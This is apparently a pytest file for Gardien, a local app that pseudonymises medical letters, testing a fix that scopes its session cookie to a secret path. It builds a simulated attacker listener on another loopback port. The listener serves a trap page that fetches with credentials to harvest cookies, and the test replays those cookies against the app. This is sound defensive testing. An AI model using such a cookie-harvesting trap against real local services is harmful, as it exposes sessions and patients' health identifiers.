"""A session no other local program can borrow (issue 15.4).

Browsers do not isolate cookies by port: a program listening on another port of 127.0.0.1 (any local account can
open one) received Gardien's session cookie after one click on a link, and with it read a patient's NIR from
`POST /reidentifier`. Gardien's pages now live under a secret root and the cookie is scoped to it (security.py).
Tested with TestClient for the rules, then in real Chromium with a real listener on another loopback port.
"""

from __future__ import annotations

import re
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.error import HTTPError
from urllib.parse import urlencode
from urllib.request import Request, urlopen

import pytest
from conftest import visible_text
from fastapi.testclient import TestClient

from gardien.web.app import create_app
from gardien.web.security import Guard

ROOT = Path(__file__).resolve().parents[1]
ARTEFACTS = ROOT / "tests" / "artefacts"
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
PORT = 8766
# Hand-written letter (not a real patient) with a NIR, as in the issue
LETTER = "Je vois ce jour Mme Ginette Lavignac, NIR 2 50 03 75 112 048 19, tél. 06 12 34 56 78."
NIR = "2 50 03 75 112 048 19"


@pytest.fixture
def guard():
    return Guard(port=PORT)


@pytest.fixture
def client(guard):
    browser = TestClient(create_app(guard), base_url=guard.base_url, raise_server_exceptions=False)
    assert browser.get(f"/connexion?jeton={guard.token}").status_code == 200
    return browser


def test_each_run_has_its_own_unguessable_root():
    roots = {Guard(port=PORT).root for _ in range(50)}
    assert len(roots) == 50 and all(re.fullmatch(r"/[A-Za-z0-9_-]{22}", r) for r in roots)


def test_the_cookie_is_scoped_to_the_secret_root(guard):
    anonymous = TestClient(create_app(guard), base_url=guard.base_url)
    cookie = anonymous.get(f"/connexion?jeton={guard.token}").headers["set-cookie"]
    assert f"Path={guard.root}" in cookie and "Path=/;" not in cookie
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie


def test_a_stolen_cookie_opens_nothing_outside_the_root(client, guard):
    """What the listener of the issue had: the cookie, not the root. Every door stays shut."""
    client.post("/pseudonymiser", data={"texte": LETTER, "dates": "balises"}, headers={"Origin": "http://127.0.0.1:8766"})
    stolen = {guard.cookie_name: client.cookies[guard.cookie_name]}
    thief = TestClient(create_app(guard), base_url=f"http://127.0.0.1:{PORT}", cookies=stolen)
    for method, path in (("GET", "/"), ("GET", "/plan"), ("POST", "/reidentifier"), ("GET", "/connexion")):
        response = thief.request(method, path, data={"reponse": "[PATIENT_1] [NIR_1]"},
                                 headers={"Origin": f"http://127.0.0.1:{PORT}", "Sec-Fetch-Site": "same-origin"})
        assert response.status_code == 401, path
        assert NIR not in response.text and "Lavignac" not in response.text
        assert guard.root not in response.text and guard.root not in str(response.headers)


@pytest.mark.parametrize("path", ["/", "/plan", "/connexion?jeton=x", "/static/gardien.css", "/nope", "/favicon.ico"])
def test_nothing_outside_the_root_reveals_it(guard, path):
    outsider = TestClient(create_app(guard), base_url=f"http://127.0.0.1:{PORT}", raise_server_exceptions=False)
    response = outsider.get(path)
    assert guard.root not in response.text and guard.root not in str(response.headers)


def test_the_old_unrooted_login_link_is_refused(guard):
    outsider = TestClient(create_app(guard), base_url=f"http://127.0.0.1:{PORT}")
    response = outsider.get(f"/connexion?jeton={guard.token}")
    assert response.status_code == 401 and "set-cookie" not in response.headers
    assert guard.sessions == []  # the token is still unused: the real opening file still works


def test_links_forms_and_redirects_stay_inside_the_root(client, guard):
    html = client.get("/").text
    targets = re.findall(r'\s(?:href|src|action|hx-get|hx-post)="(/[^"]*)"', html)
    assert targets and all(t.startswith(guard.root + "/") or t.startswith("/static/") for t in targets), targets
    response = client.post("/questionnaire/double_auth_messagerie", data={"reponse": "oui"},
                           headers={"Sec-Fetch-Site": "same-origin"}, follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"].startswith(guard.root + "/questionnaire")
    login = TestClient(create_app(guard := Guard(port=PORT)), base_url=guard.base_url).get(f"/connexion?jeton={guard.token}")
    assert f'url={guard.root}/"' in login.text  # the refresh after the login goes inside the root


def test_the_401_page_speaks_of_the_shortcut(guard, monkeypatch, tmp_path):
    from gardien.web import shortcut

    monkeypatch.setattr(shortcut, "installed", lambda platform=None: [tmp_path / "Desktop" / "gardien.desktop"])
    text = TestClient(create_app(guard), base_url=f"http://127.0.0.1:{PORT}").get("/").text
    assert "raccourci « Gardien », sur le Bureau (double-cliquez dessus)" in visible_text(text)
    assert "gardien interface" not in text and "pas de raccourci" not in text


def test_only_gardien_markup_is_rewritten(guard):
    page = (b'<a href="/plan">x</a><form action="/quitter"></form><link href="/static/g.css">'
            b'<a href="//evil.example/">y</a><a href="https://evil.example/">z</a>'
            b'<p>&#34;/plan&#34; href=&#34;/x&#34;</p><meta http-equiv="refresh" content="0;url=/">')
    rewritten = guard.rewrite_html(page).decode()
    root = guard.root
    assert f'href="{root}/plan"' in rewritten and f'action="{root}/quitter"' in rewritten
    assert 'href="/static/g.css"' in rewritten and 'href="//evil.example/"' in rewritten
    assert "href=&#34;/x&#34;" in rewritten  # text shown to the user (escaped by Jinja) is left alone
    assert f'url={root}/"' in rewritten


# --- in real Chromium, with a listener on another loopback port ------------------------------------------------------

class Listener(BaseHTTPRequestHandler):
    """What another account could run: it records every request and serves a page that makes the browser come back
    (an image, a fetch with credentials, a link), so that every cookie the browser would send reaches it."""

    seen: list[tuple[str, str]] = []

    def do_GET(self):  # noqa: N802 - http.server's naming
        type(self).seen.append((self.path, self.headers.get("Cookie", "")))
        body = (b'<!DOCTYPE html><title>Piege</title><img src="/pixel.png"><a id="suite" href="/suite">suite</a>'
                b'<script>fetch("/vol", {credentials: "include"})</script>')
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def listener():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    Listener.seen = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def _visit_the_trap(page, listener: str) -> None:
    page.goto(listener + "/")  # typed or from a bookmark: the browser sends same-site cookies
    page.wait_for_load_state("networkidle")
    page.click("#suite")  # one click on a link, as in the issue
    page.wait_for_load_state("networkidle")


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium absent (apt-get install chromium) : test dans le navigateur sauté")
def test_a_listener_on_another_port_receives_nothing_usable(running_interface, listener):
    playwright_api = pytest.importorskip("playwright.sync_api", reason="Playwright absent (pip install playwright)")
    guard, opening = running_interface
    with playwright_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
            "--no-first-run"])
        try:
            context = browser.new_context(locale="fr-FR")
            page = context.new_page()
            page.goto(opening.as_uri())
            page.wait_for_url(f"{guard.base_url}/")
            page.goto(f"{guard.base_url}/pseudonymiser")
            page.get_by_label("Le texte (lettre").fill(LETTER)
            page.get_by_role("button", name="Retirer les identifiants").click()
            page.locator("#texte-pseudo").wait_for()  # a correspondence with the NIR is now in Gardien's memory
            (session,) = [c for c in context.cookies() if c["name"] == guard.cookie_name]
            assert session["path"] == guard.root and session["httpOnly"] and session["sameSite"] == "Strict"

            _visit_the_trap(page, listener)
            received = " ".join(cookie for _, cookie in Listener.seen)
            assert len(Listener.seen) >= 3  # the page, then the image, the fetch and the link came back
            assert session["value"] not in received and guard.cookie_name not in received
            assert guard.root not in " ".join(path for path, _ in Listener.seen)

            # The same test sees a leak when there is one: a cookie scoped to "/" on 127.0.0.1 (the old design)
            # reaches the listener.
            context.add_cookies([{"name": "temoin", "value": "ancien-cookie", "domain": "127.0.0.1", "path": "/",
                                  "httpOnly": True, "sameSite": "Strict"}])
            _visit_the_trap(page, listener)
            assert "temoin=ancien-cookie" in " ".join(cookie for _, cookie in Listener.seen)

            # Everything the listener received, replayed against Gardien, opens nothing.
            origin = f"http://127.0.0.1:{guard.port}"
            for _, cookie in Listener.seen:
                replay = Request(origin + "/reidentifier", data=urlencode({"reponse": "[PATIENT_1] [NIR_1]"}).encode(),
                                 headers={"Cookie": cookie, "Origin": origin, "Sec-Fetch-Site": "same-origin"})
                with pytest.raises(HTTPError) as refused:
                    urlopen(replay, timeout=10)
                assert refused.value.code == 401 and NIR not in refused.value.read().decode()
                refused.value.close()

            # The page a person meets outside the root: it says how to open Gardien.
            page.goto(origin + "/")
            said = page.locator("main").inner_text()
            assert "Cette adresse seule n'ouvre pas Gardien" in said and "Pour le rouvrir" in said  # no shortcut here
            ARTEFACTS.mkdir(parents=True, exist_ok=True)
            page.screenshot(path=str(ARTEFACTS / "10-hors-racine-401.png"), full_page=True)
            # Gardien itself still works in the same browser
            page.goto(f"{guard.base_url}/")
            assert page.get_by_role("heading", level=1).inner_text() == "Tableau de bord"
        finally:
            browser.close()
